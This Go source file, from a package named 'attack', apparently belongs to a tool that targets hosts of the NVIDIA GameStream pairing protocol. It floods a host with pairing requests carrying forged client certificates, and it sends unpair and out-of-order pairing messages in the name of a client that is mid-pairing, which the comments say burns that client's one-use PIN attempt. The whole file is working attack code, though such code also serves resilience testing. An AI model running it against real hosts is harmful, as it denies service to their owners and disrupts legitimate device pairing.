package attack

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"strings"
	"time"
)

// pair asks to pair as so many clients, and waits for PINs that nobody will
// enter.
func (r *run) pair() error {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return err
	}
	r.Port = r.Ports.HTTP
	r.open(func(i int, c net.Conn) {
		if cert, err := certificate(key, int64(i)); err == nil {
			_, _ = fmt.Fprintf(c, "GET /pair?uniqueid=%016X&devicename=roth&updateState=1&phrase=getservercert"+
				"&salt=%032x&clientcert=%x HTTP/1.1\r\nHost: kennel\r\n\r\n", i+1, i, cert)
		}
	})
	return nil
}

// certificate makes a client of its own from every number, with one key for all:
// keys take long to make.
func certificate(key *rsa.PrivateKey, number int64) ([]byte, error) {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(number + 1), Subject: pkix.Name{CommonName: "NVIDIA GameStream Client"},
		NotBefore: time.Unix(0, 0), NotAfter: time.Now().AddDate(10, 0, 0),
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		return nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), nil
}

// unpair sends, in the name of a client that pairs, requests that no client
// sends while it pairs.
func (r *run) unpair() error {
	return r.inTheNameOf("/unpair?", "/pair?phrase=nothing&", "/pair?", "/pair?phrase=getservercert&")
}

// outOfOrder sends, in the name of a client that pairs, what such a client sends
// later, well formed and not. Once the host has the PIN, a PIN is good for one
// attempt, and the host cannot tell these from the client's own.
func (r *run) outOfOrder() error {
	return r.inTheNameOf("/pair?clientchallenge=00&", "/pair?serverchallengeresp=00&", "/pair?clientpairingsecret=00&",
		"/pair?clientchallenge="+strings.Repeat("00", 16)+"&", "/pair?serverchallengeresp="+strings.Repeat("00", 32)+"&",
		"/pair?clientpairingsecret="+strings.Repeat("00", 16+256)+"&")
}

func (r *run) inTheNameOf(paths ...string) error {
	for i := 0; r.pace(i); i++ {
		r.get(i, paths[i%len(paths)]+"uniqueid="+r.UniqueID)
	}
	return nil
}
